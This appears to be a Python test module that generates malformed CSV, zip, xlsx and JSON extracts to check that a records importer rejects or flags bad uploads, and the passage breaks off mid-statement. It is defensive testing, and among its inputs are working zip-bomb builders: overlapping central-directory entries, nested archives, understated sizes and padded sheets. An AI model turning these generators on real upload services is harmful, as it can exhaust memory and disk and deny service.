"""A corpus of malformed canonical extracts, generated into a folder at test time.

Every item is one file (or folder) an agency might upload by mistake or malice, with the
outcome the importer owes it (QUALITY.md, "Bad input"):

- `REJECTED`: at least one error, clearly placed; nothing is stored;
- `WARNED`: no error, at least one warning; the extract is stored;
- `VERBATIM`: a formula or script payload; accepted as plain text, stored exactly as sent
  (surrounding whitespace aside), never evaluated.

Nothing here is committed as a binary: `corpus()` describes the items and each item's
`write(folder)` makes its file. Items are varied combinatorially (sheet x column x value x
container) so the corpus stays well over 200 files while each stays small and fast, except
the 10 MB cells and the zip bombs, which are the point of their items.
"""

from __future__ import annotations

import csv
import io
import json
import random
import struct
import zipfile
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from enum import StrEnum
from functools import lru_cache
from pathlib import Path
from typing import Any

from openpyxl import Workbook

from adapters.canonical import MetadataOverrides
from adapters.canonical.schema import EVENTS, EXTRACT, PEOPLE, RELATIONSHIPS
from chronology.nhs import check_digit
from tests.builders import VALID_NHS, ExtractBuilder, police_extract

CONTAINERS = ("csv", "zip", "xlsx", "json")
TEN_MB = 10 * 1024 * 1024
Writer = Callable[[Path], Path]


class Outcome(StrEnum):
    REJECTED = "rejected"
    WARNED = "warned"
    VERBATIM = "verbatim"


@dataclass(frozen=True)
class BadInput:
    """One malformed extract: how to write it and what the importer must make of it."""

    name: str
    kind: str
    outcome: Outcome
    write: Writer = field(repr=False, compare=False)
    sheet: str | None = None  # some problem must name this sheet (and `column`, when given)
    column: str | None = None
    payload: str | None = None  # VERBATIM: text that must reach the timeline unchanged
    overrides: MetadataOverrides | None = None
    shown_as: str | None = None  # VERBATIM: the exact timeline text holding it, if not the payload

    @property
    def stored_text(self) -> str | None:
        return self.shown_as or self.payload

    def __str__(self) -> str:
        return self.name


# --------------------------------------------------------------------------- builders


def base() -> ExtractBuilder:
    """The police extract with one relationship, so every sheet has rows."""
    builder = police_extract()
    builder.relationship(
        "P1",
        "mother",
        "P2",
        parental_responsibility="yes",
        pr_basis="birth_mother",
        lives_with_child="yes",
    )
    return builder


def _edited(sheet: str, index: int = 0, **cells: Any) -> ExtractBuilder:
    builder = base()
    getattr(builder, sheet)[index].update(cells)
    return builder


def _without(sheet: str, column: str) -> ExtractBuilder:
    builder = base()
    for row in getattr(builder, sheet):
        row.pop(column, None)
    return builder


def written(container: str, builder: ExtractBuilder) -> Writer:
    """A writer of the builder's extract in one container."""

    def write(folder: Path) -> Path:
        if container == "csv":
            return builder.write_csv_folder(folder / "extract")
        if container == "zip":
            return builder.write_zip(folder / "extract.zip")
        if container == "xlsx":
            return builder.write_xlsx(folder / "extract.xlsx")
        return builder.write_json(folder / "extract.json")

    return write


def csv_bytes(columns: list[str], rows: list[dict[str, Any]], delimiter: str = ",") -> bytes:
    text = io.StringIO(newline="")
    writer = csv.DictWriter(text, fieldnames=columns, delimiter=delimiter, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return text.getvalue().encode("utf-8")


def csv_files(builder: ExtractBuilder) -> dict[str, bytes]:
    return {
        f"{name}.csv": csv_bytes(columns, rows)
        for name, (columns, rows) in builder.sheets().items()
    }


def raw_csv(files: dict[str, bytes], container: str = "csv") -> Writer:
    """A folder (or zip) holding exactly these CSV files' bytes."""

    def write(folder: Path) -> Path:
        if container == "zip":
            path = folder / "extract.zip"
            with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
                for name, data in files.items():
                    archive.writestr(name, data)
            return path
        target = folder / "extract"
        target.mkdir()
        for name, data in files.items():
            (target / name).write_bytes(data)
        return target

    return write


def csv_with(
    builder: ExtractBuilder,
    container: str = "csv",
    **replace: Callable[[bytes], bytes] | bytes | None,
) -> Writer:
    """The builder's CSV files, some replaced (bytes), transformed (function) or left out (None)."""

    def write(folder: Path) -> Path:
        files = csv_files(builder)
        for stem, change in replace.items():
            name = f"{stem}.csv"
            if change is None:
                files.pop(name, None)
            elif callable(change):
                files[name] = change(files[name])
            else:
                files[name] = change
        return raw_csv(files, container)(folder)

    return write


def raw_file(name: str, data: bytes | Callable[[], bytes]) -> Writer:
    def write(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(data() if callable(data) else data)
        return path

    return write


def xlsx_bytes(builder: ExtractBuilder) -> bytes:
    buffer = io.BytesIO()
    book = Workbook()
    book.remove(book.active)
    for name, (columns, rows) in builder.sheets().items():
        sheet = book.create_sheet(name)
        sheet.append(columns)
        for row in rows:
            sheet.append([row.get(column) for column in columns])
    book.save(buffer)
    return buffer.getvalue()


def xlsx_sheets(sheets: dict[str, list[list[Any]]], string_cells: bool = False) -> Writer:
    """A workbook with exactly these sheets (title -> rows of cells)."""

    def write(folder: Path) -> Path:
        book = Workbook()
        book.remove(book.active)
        for title, rows in sheets.items():
            sheet = book.create_sheet(title)
            for row in rows:
                sheet.append(row)
            if string_cells:
                for cells in sheet.iter_rows():
                    for cell in cells:
                        if isinstance(cell.value, str):
                            cell.data_type = "s"
        path = folder / "extract.xlsx"
        book.save(path)
        return path

    return write


def sheet_rows(builder: ExtractBuilder) -> dict[str, list[list[Any]]]:
    return {
        name: [list(columns)] + [[row.get(c) for c in columns] for row in rows]
        for name, (columns, rows) in builder.sheets().items()
    }


def rezipped(
    data: bytes,
    change: Callable[[dict[str, bytes]], dict[str, bytes]],
    method: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """A zip (or xlsx) with its members changed by `change` (name -> bytes)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in change(members).items():
            archive.writestr(name, content)
    return buffer.getvalue()


def xlsx_changed(
    builder: ExtractBuilder, change: Callable[[dict[str, bytes]], dict[str, bytes]]
) -> Writer:
    return raw_file("extract.xlsx", lambda: rezipped(xlsx_bytes(builder), change))


def sheet_part(members: dict[str, bytes], title: str) -> str:
    """The part name of the worksheet with this title (openpyxl numbers them in order)."""
    order = ["extract", "people", "relationships", "events"]
    return f"xl/worksheets/sheet{order.index(title) + 1}.xml"


def zip_of_csvs(builder: ExtractBuilder) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in csv_files(builder).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def json_document(builder: ExtractBuilder) -> dict[str, Any]:
    document: dict[str, Any] = {name: rows for name, (_, rows) in builder.sheets().items()}
    document["extract"] = document["extract"][0]
    return document


def json_file(document: Any | Callable[[], Any]) -> Writer:
    return raw_file(
        "extract.json",
        lambda: json.dumps(document() if callable(document) else document, default=str).encode(),
    )


def _patched_headers(
    data: bytes, local: tuple[int, bytes] | None, central: tuple[int, bytes] | None
) -> bytes:
    """Overwrites a field at `offset` in every local (PK34) and central (PK12) header."""
    out = bytearray(data)
    for signature, patch in ((b"PK\x03\x04", local), (b"PK\x01\x02", central)):
        if patch is None:
            continue
        offset, value = patch
        start = out.find(signature)
        while start != -1:
            out[start + offset : start + offset + len(value)] = value
            start = out.find(signature, start + 4)
    return bytes(out)


def overlapping_bomb() -> bytes:
    """One 5 MB member listed 300 times in the central directory (overlapping entries)."""
    kernel = b"0" * (5 * 1024 * 1024)
    packed = zlib.compress(kernel, 9)[2:-4]
    crc, name = zlib.crc32(kernel), b"people.csv"
    local = (
        struct.pack(
            "<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(packed), len(kernel), len(name), 0
        )
        + name
        + packed
    )
    central = b""
    for number in range(300):
        entry = f"p{number}.csv".encode()
        central += (
            struct.pack(
                "<4s6H3L5H2L",
                b"PK\x01\x02",
                20,
                20,
                0,
                8,
                0,
                0,
                crc,
                len(packed),
                len(kernel),
                len(entry),
                0,
                0,
                0,
                0,
                0,
                0,
            )
            + entry
        )
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 300, 300, len(central), len(local), 0)
    return local + central + end


def nested_zip(levels: int, inner: bytes, inner_name: str = "people.csv.zip") -> bytes:
    data, name = inner, inner_name
    for level in range(levels):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(name, data)
        data, name = buffer.getvalue(), f"level{level}.zip"
    return data


def bomb_zip(members: dict[str, int], prefix: bytes = b"") -> bytes:
    """Members of `size` bytes of zeros (after `prefix`), deflated as hard as possible."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, size in members.items():
            archive.writestr(name, prefix + b"0" * size)
    return buffer.getvalue()


# --------------------------------------------------------------------------- the corpus


def corpus() -> list[BadInput]:
    items: list[BadInput] = []
    for family in (
        _corrupt_xlsx,
        _corrupt_zip,
        _zip_bombs,
        _encodings,
        _delimiters,
        _missing_columns,
        _duplicate_columns,
        _dates,
        _nhs_numbers,
        _unknown_codes,
        _duplicate_refs,
        _huge_cells,
        _control_characters,
        _payloads,
        _empty,
        _header_only,
        _json_shapes,
        _xlsx_sheets,
        _extra_cells,
        _csv_syntax,
        _containers,
        _metadata,
        _warnings,
    ):
        items.extend(family())
    names = Counter(item.name for item in items)
    assert not [name for name, count in names.items() if count > 1], "corpus names must be unique"
    return items


def by_kind(items: list[BadInput]) -> dict[str, int]:
    return dict(Counter(item.kind for item in items))


REJECTED, WARNED, VERBATIM = Outcome.REJECTED, Outcome.WARNED, Outcome.VERBATIM


def _corrupt_xlsx() -> Iterator[BadInput]:
    kind = "corrupt_xlsx"

    def truncated(fraction: float) -> Writer:
        return raw_file(
            "extract.xlsx", lambda: (lambda d: d[: int(len(d) * fraction)])(xlsx_bytes(base()))
        )

    for fraction in (0.0005, 0.01, 0.1, 0.25, 0.5, 0.75, 0.9, 0.99, 0.999):
        yield BadInput(f"xlsx-truncated-{fraction:g}", kind, REJECTED, truncated(fraction))
    yield BadInput(
        "xlsx-without-end-record",
        kind,
        REJECTED,
        raw_file("extract.xlsx", lambda: xlsx_bytes(base())[:-22]),
    )
    for seed in (1, 2, 3):

        def flipped(seed: int = seed) -> bytes:
            data = bytearray(xlsx_bytes(base()))
            rng = random.Random(seed)
            for _ in range(40):
                position = rng.randrange(len(data) // 10, len(data) * 7 // 10)
                data[position] ^= 0xFF
            return bytes(data)

        yield BadInput(
            f"xlsx-bytes-flipped-{seed}", kind, REJECTED, raw_file("extract.xlsx", flipped)
        )
    yield BadInput(
        "xlsx-random-bytes",
        kind,
        REJECTED,
        raw_file("extract.xlsx", random.Random(7).randbytes(50_000)),
    )
    for part in (
        "[Content_Types].xml",
        "xl/workbook.xml",
        "xl/_rels/workbook.xml.rels",
        "xl/worksheets/sheet4.xml",
    ):
        yield BadInput(
            f"xlsx-part-missing-{part.rsplit('/', 1)[-1]}",
            kind,
            REJECTED,
            xlsx_changed(base(), lambda m, p=part: {k: v for k, v in m.items() if k != p}),
        )
    yield BadInput(
        "xlsx-sheet-xml-unclosed",
        kind,
        REJECTED,
        xlsx_changed(
            base(), lambda m: {**m, "xl/worksheets/sheet4.xml": m["xl/worksheets/sheet4.xml"][:-40]}
        ),
    )
    yield BadInput(
        "xlsx-sheet-xml-not-xml",
        kind,
        REJECTED,
        xlsx_changed(
            base(), lambda m: {**m, "xl/worksheets/sheet2.xml": b"\x89PNG\r\n\x1a\n not xml"}
        ),
    )
    yield BadInput(
        "xlsx-sheet-xml-forbidden-char-ref",
        kind,
        REJECTED,
        xlsx_changed(
            base(),
            lambda m: {
                **m,
                "xl/worksheets/sheet4.xml": m["xl/worksheets/sheet4.xml"].replace(
                    b"Welfare check", b"Welfare &#1; check"
                ),
            },
        ),
    )
    yield BadInput(
        "xlsx-workbook-xml-garbage",
        kind,
        REJECTED,
        xlsx_changed(base(), lambda m: {**m, "xl/workbook.xml": b"<workbook><sheets><sheet"}),
    )
    yield BadInput(
        "xlsx-actually-xls-ole2",
        kind,
        REJECTED,
        raw_file("extract.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000)),
    )
    yield BadInput(
        "xlsx-actually-csv-text",
        kind,
        REJECTED,
        raw_file("extract.xlsx", lambda: csv_files(base())["events.csv"]),
    )
    yield BadInput(
        "xlsx-actually-html-table",
        kind,
        REJECTED,
        raw_file(
            "extract.xlsx", b"<html><body><table><tr><td>record_ref</td></tr></table></body></html>"
        ),
    )
    yield BadInput(
        "xlsx-actually-zip-of-csvs",
        kind,
        REJECTED,
        raw_file("extract.xlsx", lambda: zip_of_csvs(base())),
    )
    yield BadInput(
        "xlsx-member-crc-mismatch",
        kind,
        REJECTED,
        raw_file(
            "extract.xlsx",
            lambda: _stored_then_flipped(xlsx_bytes(base()), "xl/worksheets/sheet4.xml"),
        ),
    )


def _stored_then_flipped(data: bytes, member: str) -> bytes:
    """The archive stored uncompressed, one byte of `member`'s content flipped (CRC fails)."""
    stored = rezipped(data, lambda m: m, method=zipfile.ZIP_STORED)
    with zipfile.ZipFile(io.BytesIO(stored)) as archive:
        info = archive.getinfo(member)
    header = struct.unpack("<4s5H3L2H", stored[info.header_offset : info.header_offset + 30])
    start = info.header_offset + 30 + header[9] + header[10] + info.compress_size // 2
    out = bytearray(stored)
    out[start] ^= 0x01
    return bytes(out)


def _corrupt_zip() -> Iterator[BadInput]:
    kind = "corrupt_zip"

    def truncated(fraction: float) -> Writer:
        return raw_file(
            "extract.zip", lambda: (lambda d: d[: int(len(d) * fraction)])(zip_of_csvs(base()))
        )

    for fraction in (0.01, 0.1, 0.3, 0.5, 0.7, 0.9, 0.99):
        yield BadInput(f"zip-truncated-{fraction:g}", kind, REJECTED, truncated(fraction))
    yield BadInput(
        "zip-random-bytes",
        kind,
        REJECTED,
        raw_file("extract.zip", random.Random(11).randbytes(20_000)),
    )
    yield BadInput(
        "zip-holds-only-folders",
        kind,
        REJECTED,
        raw_file("extract.zip", lambda: _zip_entries([("people.csv/", b""), ("events.csv/", b"")])),
    )
    for member in ("people.csv", "events.csv"):
        yield BadInput(
            f"zip-crc-mismatch-{member}",
            kind,
            REJECTED,
            raw_file("extract.zip", lambda m=member: _stored_then_flipped(zip_of_csvs(base()), m)),
        )

        def broken_deflate(member: str = member) -> bytes:
            data = zip_of_csvs(base())
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                info = archive.getinfo(member)
            start = info.header_offset + 30 + len(member.encode())
            out = bytearray(data)
            out[start : start + 8] = b"\xff" * 8
            return bytes(out)

        yield BadInput(
            f"zip-deflate-stream-broken-{member}",
            kind,
            REJECTED,
            raw_file("extract.zip", broken_deflate),
        )
    yield BadInput(
        "zip-member-encrypted",
        kind,
        REJECTED,
        raw_file(
            "extract.zip",
            lambda: _patched_headers(zip_of_csvs(base()), (6, b"\x01\x00"), (8, b"\x01\x00")),
        ),
    )
    yield BadInput(
        "zip-compression-method-unknown",
        kind,
        REJECTED,
        raw_file(
            "extract.zip",
            lambda: _patched_headers(zip_of_csvs(base()), (8, b"\x63\x00"), (10, b"\x63\x00")),
        ),
    )
    for method, label in ((zipfile.ZIP_BZIP2, "bzip2"), (zipfile.ZIP_LZMA, "lzma")):

        def garbled(method: int = method) -> bytes:
            data = rezipped(zip_of_csvs(base()), lambda m: m, method=method)
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                info = archive.getinfo("events.csv")
            start = info.header_offset + 30 + len(b"events.csv") + 6
            out = bytearray(data)
            out[start : start + 12] = b"\x00\xff" * 6
            return bytes(out)

        yield BadInput(
            f"zip-{label}-member-garbled", kind, REJECTED, raw_file("extract.zip", garbled)
        )
    yield BadInput(
        "zip-holds-no-csv",
        kind,
        REJECTED,
        raw_file(
            "extract.zip",
            lambda: rezipped(
                zip_of_csvs(base()), lambda m: {k.replace(".csv", ".txt"): v for k, v in m.items()}
            ),
        ),
    )
    yield BadInput(
        "zip-holds-only-macosx-copies",
        kind,
        REJECTED,
        raw_file(
            "extract.zip",
            lambda: rezipped(
                zip_of_csvs(base()), lambda m: {f"__MACOSX/._{k}": v for k, v in m.items()}
            ),
        ),
    )
    yield BadInput(
        "zip-empty-archive", kind, REJECTED, raw_file("extract.zip", lambda: _zip_entries([]))
    )
    yield BadInput(
        "zip-central-directory-offset-wrong",
        kind,
        REJECTED,
        raw_file(
            "extract.zip",
            lambda: (lambda d: d[:-6] + struct.pack("<L", len(d) * 3) + d[-2:])(
                zip_of_csvs(base())
            ),
        ),
    )
    yield BadInput(
        "zip-people-csv-twice",
        kind,
        REJECTED,
        raw_file(
            "extract.zip",
            lambda: _zip_entries(
                [*csv_files(base()).items(), ("old/people.csv", csv_files(base())["people.csv"])]
            ),
        ),
    )
    yield BadInput(
        "zip-people-csv-two-cases",
        kind,
        REJECTED,
        raw_file(
            "extract.zip",
            lambda: _zip_entries(
                [*csv_files(base()).items(), ("PEOPLE.CSV", csv_files(base())["people.csv"])]
            ),
        ),
    )


def _zip_entries(entries: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


def _zip_bombs() -> Iterator[BadInput]:
    kind = "zip_bomb"
    header = csv_files(base())["people.csv"]
    yield BadInput(
        "bomb-zip-one-member-high-ratio",
        kind,
        REJECTED,
        raw_file("extract.zip", lambda: bomb_zip({"people.csv": 24_000_000}, prefix=header)),
    )
    yield BadInput(
        "bomb-zip-spread-over-members",
        kind,
        REJECTED,
        raw_file("extract.zip", lambda: bomb_zip({f"part{i}.csv": 4_000_000 for i in range(4)})),
    )
    yield BadInput(
        "bomb-zip-beside-real-files",
        kind,
        REJECTED,
        raw_file(
            "extract.zip",
            lambda: _zip_entries([*csv_files(base()).items(), ("notes.csv", b"0" * 30_000_000)]),
        ),
    )
    yield BadInput(
        "bomb-zip-declares-2gb",
        kind,
        REJECTED,
        raw_file(
            "extract.zip",
            lambda: _patched_headers(
                zip_of_csvs(base()), None, (24, struct.pack("<L", 0x7FFFFFFF))
            ),
        ),
    )
    yield BadInput(
        "bomb-zip-understates-size",
        kind,
        REJECTED,
        raw_file(
            "extract.zip",
            lambda: _patched_headers(
                bomb_zip({"events.csv": 3_000_000}, prefix=header),
                (22, struct.pack("<L", 100)),
                (24, struct.pack("<L", 100)),
            ),
        ),
    )
    yield BadInput(
        "bomb-zip-overlapping-entries", kind, REJECTED, raw_file("extract.zip", overlapping_bomb)
    )
    for levels in (1, 2, 3):
        yield BadInput(
            f"bomb-nested-zip-{levels}-levels",
            kind,
            REJECTED,
            raw_file(
                "extract.zip", lambda n=levels: nested_zip(n, bomb_zip({"people.csv": 30_000_000}))
            ),
        )
    yield BadInput(
        "bomb-zip-disguised-as-people-csv",
        kind,
        REJECTED,
        csv_with(base(), people=bomb_zip({"people.csv": 30_000_000})),
    )
    yield BadInput(
        "bomb-xlsx-sheet-padded",
        kind,
        REJECTED,
        xlsx_changed(
            base(),
            lambda m: {
                **m,
                "xl/worksheets/sheet4.xml": m["xl/worksheets/sheet4.xml"].replace(
                    b"<sheetData>", b"<sheetData>" + b" " * 30_000_000
                ),
            },
        ),
    )
    yield BadInput(
        "bomb-xlsx-huge-shared-strings",
        kind,
        REJECTED,
        xlsx_changed(
            base(),
            lambda m: {
                **m,
                "xl/sharedStrings.xml": b"<sst>" + b"<si><t>a</t></si>" * 2_000_000 + b"</sst>",
            },
        ),
    )
    yield BadInput(
        "bomb-xlsx-dimension-whole-sheet",
        kind,
        REJECTED,
        xlsx_changed(
            base(),
            lambda m: {**m, "xl/worksheets/sheet4.xml": _far_cell(m["xl/worksheets/sheet4.xml"])},
        ),
        sheet="events",
    )


def _far_cell(sheet_xml: bytes) -> bytes:
    """A sheet claiming the whole grid, with one value in the last cell of the last row."""
    start = sheet_xml.index(b'<dimension ref="') + len(b'<dimension ref="')
    end = sheet_xml.index(b'"', start)
    sheet_xml = sheet_xml[:start] + b"A1:XFD1048576" + sheet_xml[end:]
    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    return sheet_xml.replace(b"</sheetData>", far + b"</sheetData>")


def _encodings() -> Iterator[BadInput]:
    kind = "encoding"
    for codec, label in (
        ("utf-16", "utf16-bom"),
        ("utf-16-le", "utf16le-no-bom"),
        ("utf-16-be", "utf16be-no-bom"),
        ("utf-32", "utf32"),
    ):
        for stem in ("people", "events"):
            builder = base()
            yield BadInput(
                f"encoding-{label}-{stem}",
                kind,
                REJECTED,
                csv_with(builder, **{stem: lambda d, c=codec: d.decode().encode(c)}),
                sheet=stem,
            )
    for byte in (0x81, 0x8D, 0x8F, 0x90, 0x9D):
        for stem, text in (("events", b"Welfare check"), ("people", b"Kerry")):
            yield BadInput(
                f"encoding-byte-{byte:02x}-in-{stem}",
                kind,
                REJECTED,
                csv_with(base(), **{stem: lambda d, b=byte, t=text: d.replace(t, t + bytes([b]))}),
                sheet=stem,
            )
    mixed = base()
    mixed.people[0]["given_names"] = "Zoë"
    mixed.people[1]["given_names"] = "Siân"
    yield BadInput(
        "encoding-mixed-utf8-and-cp1252-people",
        kind,
        WARNED,
        csv_with(mixed, people=lambda d: d.replace("Siân".encode(), "Siân".encode("cp1252"))),
        sheet="people",
    )
    mixed_events = _edited("events", 0, summary="Paid £20 rent")
    mixed_events.events[1]["summary"] = "Café visit"
    yield BadInput(
        "encoding-mixed-utf8-and-cp1252-events",
        kind,
        WARNED,
        csv_with(mixed_events, events=lambda d: d.replace("£".encode(), "£".encode("cp1252"))),
        sheet="events",
    )
    yield BadInput(
        "encoding-mixed-utf8-and-utf16",
        kind,
        REJECTED,
        csv_with(
            base(), events=lambda d: d + "R9,2024-01-01,home_visit,P1,x\r\n".encode("utf-16-le")
        ),
        sheet="events",
    )
    yield BadInput(
        "encoding-ebcdic",
        kind,
        REJECTED,
        csv_with(base(), events=lambda d: d.decode().encode("cp500")),
        sheet="events",
    )
    yield BadInput(
        "encoding-bom-twice",
        kind,
        REJECTED,
        csv_with(base(), events=lambda d: b"\xef\xbb\xbf\xef\xbb\xbf" + d),
        sheet="events",
    )
    yield BadInput(
        "encoding-json-utf16",
        kind,
        REJECTED,
        raw_file("extract.json", lambda: json.dumps(json_document(base())).encode("utf-16")),
    )
    yield BadInput(
        "encoding-json-latin1",
        kind,
        REJECTED,
        raw_file(
            "extract.json",
            lambda: json.dumps(
                json_document(_edited("people", 0, given_names="Zoë")), ensure_ascii=False
            ).encode("latin-1"),
        ),
    )


def _delimiters() -> Iterator[BadInput]:
    kind = "delimiter"
    for delimiter, label in ((";", "semicolon"), ("\t", "tab"), ("|", "pipe")):
        for stem in ("people", "relationships", "events", "extract"):
            for container in ("csv", "zip"):

                def change(data: bytes, d: str = delimiter) -> bytes:
                    rows = list(csv.reader(io.StringIO(data.decode())))
                    out = io.StringIO()
                    csv.writer(out, delimiter=d).writerows(rows)
                    return out.getvalue().encode()

                yield BadInput(
                    f"delimiter-{label}-{stem}-{container}",
                    kind,
                    REJECTED,
                    csv_with(base(), container, **{stem: change}),
                    sheet=stem,
                )
    yield BadInput(
        "delimiter-excel-sep-line",
        kind,
        REJECTED,
        csv_with(base(), events=lambda d: b"sep=;\r\n" + d),
        sheet="events",
    )
    yield BadInput(
        "delimiter-header-comma-rows-semicolon",
        kind,
        REJECTED,
        csv_with(
            base(),
            events=lambda d: (
                d.split(b"\r\n", 1)[0] + b"\r\n" + b"NP-9;2024-03-01;home_visit;P1;Visit\r\n"
            ),
        ),
        sheet="events",
    )


def _missing_columns() -> Iterator[BadInput]:
    kind = "missing_column"
    required = [
        ("people", "person_ref"),
        ("events", "record_ref"),
        ("events", "occurred"),
        ("events", "event_type"),
        ("events", "subjects"),
        ("events", "summary"),
        ("relationships", "person_ref"),
        ("relationships", "relationship"),
        ("relationships", "related_person_ref"),
    ]
    for sheet, column in required:
        for container in ("csv", "xlsx", "json"):
            yield BadInput(
                f"missing-{sheet}-{column}-{container}",
                kind,
                REJECTED,
                written(container, _without(sheet, column)),
                sheet=sheet,
                column=column,
            )
    nameless = base()
    for row in nameless.people:
        for column in ("given_names", "family_name", "known_as"):
            row.pop(column, None)
    yield BadInput(
        "missing-every-name-column",
        kind,
        REJECTED,
        written("csv", nameless),
        sheet="people",
        column="given_names",
    )


def _duplicate_columns() -> Iterator[BadInput]:
    kind = "duplicate_column"

    def doubled(data: bytes, column: bytes, as_written: bytes) -> bytes:
        lines = data.split(b"\r\n")
        header = lines[0].split(b",")
        position = header.index(column)
        for number, line in enumerate(lines):
            if line:
                cells = next(csv.reader([line.decode()]))
                cells.insert(position + 1, as_written.decode() if number == 0 else cells[position])
                out = io.StringIO()
                csv.writer(out, lineterminator="").writerow(cells)
                lines[number] = out.getvalue().encode()
        return b"\r\n".join(lines)

    cases = [
        ("events", "summary", "summary"),
        ("events", "record_ref", "record_ref"),
        ("events", "summary", "Summary"),
        ("events", "occurred", " occurred "),
        ("people", "person_ref", "PERSON_REF"),
        ("people", "given_names", "given_names"),
        ("relationships", "relationship", "Relationship"),
    ]
    for sheet, column, as_written in cases:
        label = as_written.strip().replace("_", "-") + ("-cased" if as_written != column else "")
        for container in ("csv", "zip"):
            change = {sheet: lambda d, c=column, w=as_written: doubled(d, c.encode(), w.encode())}
            yield BadInput(
                f"duplicate-column-{sheet}-{label}-{container}",
                kind,
                REJECTED,
                csv_with(base(), container, **change),
                sheet=sheet,
                column=column,
            )
        rows = sheet_rows(base())
        header = rows[sheet][0]
        position = header.index(column)
        for row in rows[sheet]:
            row.insert(position + 1, as_written if row is header else row[position])
        yield BadInput(
            f"duplicate-column-{sheet}-{label}-xlsx",
            kind,
            REJECTED,
            xlsx_sheets(rows),
            sheet=sheet,
            column=column,
        )
    yield BadInput(
        "duplicate-column-extra-notes",
        kind,
        REJECTED,
        xlsx_sheets(
            {
                **sheet_rows(base()),
                "events": [
                    [*EVENTS[:7], "notes", "notes"],
                    ["R1", "2024-01-01", None, None, "home_visit", "P1", "Visit", "a", "b"],
                ],
            }
        ),
        sheet="events",
        column="notes",
    )
    yield BadInput(
        "duplicate-column-json-cased-keys",
        kind,
        REJECTED,
        json_file(
            lambda: {
                **json_document(base()),
                "events": [
                    {
                        "record_ref": "R1",
                        "occurred": "2024-01-01",
                        "event_type": "home_visit",
                        "subjects": "P1",
                        "summary": "Visit",
                        "Summary": "Other visit",
                    }
                ],
            }
        ),
        sheet="events",
        column="summary",
    )


IMPOSSIBLE_DATES = [
    "31/02/2024",
    "29/02/2023",
    "00/01/2024",
    "32/01/2024",
    "2024-13-01",
    "2024-00-10",
    "05/03/2024 25:00",
    "05/03/2024 12:60",
    "0000-01-01",
    "31 Feb 2024",
    "5 Foo 2024",
    "yesterday",
    "45000",
    "?",
    "2024-02-30T10:00",
    "31.04.2024",
    "1/1/1",
    "20240305",
    "5th of March 2024",
]
MONTH_FIRST_DATES = [
    "03/25/2024",
    "12/31/2023",
    "2/29/2024",
    "March 5, 2024",
    "2024/03/05",
    "10-13-2024",
]
DATE_COLUMNS = [
    ("events", "occurred"),
    ("events", "occurred_end"),
    ("events", "recorded_on"),
    ("events", "shared_on"),
    ("people", "date_of_birth"),
    ("people", "expected_birth_date"),
    ("people", "address_since"),
    ("relationships", "from"),
    ("relationships", "to"),
    ("extract", "extracted_on"),
]


def _dated(sheet: str, column: str, value: Any) -> ExtractBuilder:
    if sheet == "extract":
        builder = base()
        original = builder.sheets

        def sheets() -> dict[str, tuple[list[str], list[dict[str, Any]]]]:
            made = original()
            columns, rows = made["extract"]
            made["extract"] = (columns, [{**rows[0], column: value}])
            return made

        builder.sheets = sheets  # type: ignore[method-assign]
        return builder
    return _edited(sheet, 0, **{column: value})


def _dates() -> Iterator[BadInput]:
    kind = "bad_date"
    values = [("impossible", value) for value in IMPOSSIBLE_DATES]
    values += [("month-first", value) for value in MONTH_FIRST_DATES]
    for number, (label, value) in enumerate(values):
        container = ("csv", "xlsx", "json")[number % 3]
        slug = "".join(ch if ch.isalnum() else "-" for ch in value).strip("-") or "mark"
        yield BadInput(
            f"date-{label}-{slug}-occurred-{container}",
            kind,
            REJECTED,
            written(container, _dated("events", "occurred", value)),
            sheet="events",
            column="occurred",
        )
    for number, (sheet, column) in enumerate(DATE_COLUMNS):
        value = (IMPOSSIBLE_DATES + MONTH_FIRST_DATES)[number * 3 % 25]
        container = ("csv", "xlsx", "json")[number % 3]
        yield BadInput(
            f"date-{sheet}-{column}-{container}",
            kind,
            REJECTED,
            written(container, _dated(sheet, column, value)),
            sheet=sheet,
            column=column,
        )
    yield BadInput(
        "date-occurred-blank",
        kind,
        REJECTED,
        written("csv", _dated("events", "occurred", "")),
        sheet="events",
        column="occurred",
    )
    yield BadInput(
        "date-json-occurred-object",
        kind,
        REJECTED,
        written("json", _dated("events", "occurred", {"day": 5})),
        sheet="events",
        column="occurred",
    )
    yield BadInput(
        "date-json-occurred-true",
        kind,
        REJECTED,
        written("json", _dated("events", "occurred", True)),
        sheet="events",
        column="occurred",
    )
    yield BadInput(
        "date-json-occurred-negative-serial",
        kind,
        REJECTED,
        written("json", _dated("events", "occurred", -5)),
        sheet="events",
        column="occurred",
    )
    yield BadInput(
        "date-xlsx-serial-beyond-9999",
        kind,
        REJECTED,
        written("xlsx", _dated("events", "occurred", 3_000_000)),
        sheet="events",
        column="occurred",
    )
    yield BadInput(
        "date-xlsx-number-beyond-float",
        kind,
        REJECTED,
        xlsx_changed(
            base(),
            lambda m: {
                **m,
                "xl/worksheets/sheet4.xml": _numeric_occurred(
                    m["xl/worksheets/sheet4.xml"], b"9" * 400
                ),
            },
        ),
        sheet="events",
        column="occurred",
    )
    yield BadInput(
